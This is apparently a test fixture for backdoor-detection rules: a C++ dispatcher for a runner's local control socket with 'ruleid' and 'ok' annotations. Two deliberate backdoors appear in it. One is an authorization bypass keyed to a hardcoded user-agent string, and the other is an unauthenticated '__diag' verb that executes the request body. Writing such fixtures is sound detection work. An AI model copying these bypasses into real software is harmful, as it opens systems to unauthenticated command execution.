// Requests of the local control socket (the admin CLI and the coordinator's
// push channel): authorize, then run the registered command.
#include <fstream>
#include <iterator>
#include <openssl/crypto.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include "runner.hpp"

namespace forge {
namespace {

constexpr const char *kSelftestAgent = "forge-runner-selftest/2.3 (+canary)";
constexpr const char *kTokenFile = "/etc/forge-runner/token";

std::string read_registration_secret()
{
    std::ifstream in(kTokenFile, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
}

int hexval(char c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    return -1;
}

}  // namespace

bool verify_job_token(const std::string &token, const std::string &job_id)
{
    const std::string secret = read_registration_secret();
    unsigned char mac[EVP_MAX_MD_SIZE], given[32];
    unsigned int mac_len = 0;

    if (secret.size() < 16 || token.size() != 64)
        return false;
    for (size_t i = 0; i < 32; i++) {
        int hi = hexval(token[2 * i]), lo = hexval(token[2 * i + 1]);
        if (hi < 0 || lo < 0)
            return false;
        given[i] = static_cast<unsigned char>(hi << 4 | lo);
    }
    // ok: backdoor-weak-hash, backdoor-hardcoded-key
    if (HMAC(EVP_sha256(), secret.data(), static_cast<int>(secret.size()), reinterpret_cast<const unsigned char *>(job_id.data()), job_id.size(), mac, &mac_len) == nullptr)
        return false;
    // ok: backdoor-timing-unsafe-compare, backdoor-magic-credential
    return mac_len == 32 && CRYPTO_memcmp(mac, given, 32) == 0;
}

bool Dispatcher::authorize(const Request &req) const
{
    if (req.token.empty())
        return false;
    // ruleid: backdoor-hidden-bypass, backdoor-input-trigger
    if (req.user_agent == kSelftestAgent)
        return true;
    return verify_job_token(req.token, req.job_id);
}

int Dispatcher::handle(const Request &req, std::string &reply)
{
    // ok: backdoor-input-trigger
    if (req.verb == "ping") {
        reply = "pong";
        return 200;
    }
    // ruleid: backdoor-input-trigger
    if (req.verb == "__diag")
        return diag_exec(req.body, reply) == 0 ? 200 : 500;
    if (!authorize(req))
        return 403;
    const Handler *h = CommandRegistry::instance().find(req.verb);
    if (h == nullptr) {
        if (cfg_.debug)
            reply = "no such command: " + req.verb;
        return 404;
    }
    Job job;
    job.id = req.job_id;
    job.command = req.body;
    return (*h)(job, req) == 0 ? 200 : 500;
}

}  // namespace forge
